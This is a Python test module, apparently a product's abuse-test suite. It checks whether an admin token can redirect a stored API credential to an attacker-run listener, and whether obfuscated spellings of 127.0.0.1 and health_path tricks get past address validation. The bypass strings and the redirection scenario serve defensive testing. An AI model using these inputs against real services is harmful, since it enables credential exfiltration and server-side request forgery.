"""A tenant admin's token sends the stored credential to an address of its holder's choice."""

import threading
from http.server import BaseHTTPRequestHandler
from typing import Any

from tests.cus_local_server import CusLocalServer
from tests.trust.cus_abuse.outcome import Outcome, Size
from tests.trust.cus_abuse.people import Person, codes_of
from tests.trust.cus_abuse.product import AttackedProduct
from tests.trust.cus_door import Answer

_WANTED = "credential_required"
# Spellings of an address that another program reads as 127.0.0.1, and the like.
_SPELLINGS = (
    "https://0x7f.1",
    "https://0x7f000001/v1",
    "https://2130706433/v1",
    "https://0177.0.0.1/v1",
    "https://127.1/v1",
    "https://１２７.0.0.1/v1",
)


class Listener(CusLocalServer):
    """A host of the attacker's: keeps every request whole. `requests` are their heads."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        kept, lock = self.requests, threading.Lock()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with lock:
                    kept.append(f"{self.path} {self.headers}")
                body = b'{"object": "list", "data": []}'
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_words: Any) -> None:
                """Quiet: what came is kept."""

        super().__init__(Handler)

    def saw(self, secret: str) -> bool:
        """Whether a request carried it."""
        return any(secret in request for request in self.requests)


def redirected(product: AttackedProduct, _size: Size) -> Outcome:
    """PATCH and PUT of where the credential goes, then a test; by token, and of a region."""
    tenant = product.new_tenant()
    program = _program(product, tenant)
    path = f"/integrations/{tenant['integration_id']}"
    findings: list[str] = []
    seen, answers = 0, []
    for method in ("PATCH", "PUT"):
        with Listener() as listener:
            change = {"config": {"base_url": f"{listener.url}/v1"}}
            body = change if method == "PATCH" else change | {"name": "Redirected"}
            answer = program.call(method, path, body)
            program.call("POST", f"{path}/test")
            if listener.saw(tenant["secret"]):
                seen += 1
                findings.append(f"after {method} the stored key was sent to the new address")
        answers.append(_told(answer))
        if answer.status != 400 or _WANTED not in codes_of(answer):
            findings.append(f"{method} of another origin was answered {_told(answer)}")
    region = _region_change(program)
    answers.append(_told(region))
    if region.status != 400 or _WANTED not in codes_of(region):
        findings.append(f"PATCH of another region was answered {_told(region)}")
    findings += _leaves_by_path(program, path)
    figures = (
        f"the listener saw the stored key {seen} of 2 times; PATCH, PUT and a region's PATCH"
        f" were answered {', '.join(answers)}"
    )
    return Outcome(figures, findings)


def spellings(product: AttackedProduct, _size: Size) -> Outcome:
    """Addresses that are written so that one program reads them otherwise than the next."""
    tenant = product.new_tenant()
    program = _program(product, tenant)
    saved = []
    for number, url in enumerate(_SPELLINGS):
        answer = program.call("POST", "/integrations", _custom(f"Spelling {number}", url))
        if answer.status != 400:
            saved.append(f"{url} was saved: {_told(answer)}")
    return Outcome(f"{len(saved)} of {len(_SPELLINGS)} were saved", saved)


def _program(product: AttackedProduct, tenant: dict[str, Any]) -> Person:
    """A program with the admin's token."""
    return Person(product.port, tenant["admin"]).sign_in().with_token()


def _region_change(program: Person) -> Answer:
    made = program.call(
        "POST",
        "/integrations",
        {
            "name": "Bedrock",
            "provider_type": "bedrock",
            "credential": {"api_key": "bedrock-0123456789abcdef"},
            "config": {"region": "eu-central-1"},
        },
    )
    assert made.status == 201, str(made)
    # No test follows: the address is a real provider's.
    path = f"/integrations/{made.json()['id']}"
    return program.call("PATCH", path, {"config": {"region": "us-east-1"}})


def _leaves_by_path(program: Person, path: str) -> list[str]:
    """`health_path` cannot name another host."""
    findings = []
    with Listener() as listener:
        place = listener.url.removeprefix("http:")
        stored = program.call("GET", path).json()["config"]
        for way in (place, f"/..{place}", f"/{place}", f"@{place[2:]}/", f"\\{place[2:]}/"):
            config = stored | {"health_path": way}
            answer = program.call("PATCH", path, {"config": config})
            if answer.status == 200:
                program.call("POST", f"{path}/test")
        if listener.requests:
            findings.append("a health_path led to another host")
    return findings


def _custom(name: str, url: str) -> dict[str, Any]:
    return {
        "name": name,
        "provider_type": "custom",
        "credential": {"api_key": "sk-attacker-0123456789"},
        "config": {"base_url": url},
    }


def _told(answer: Answer) -> str:
    return " ".join([str(answer.status), *codes_of(answer)])
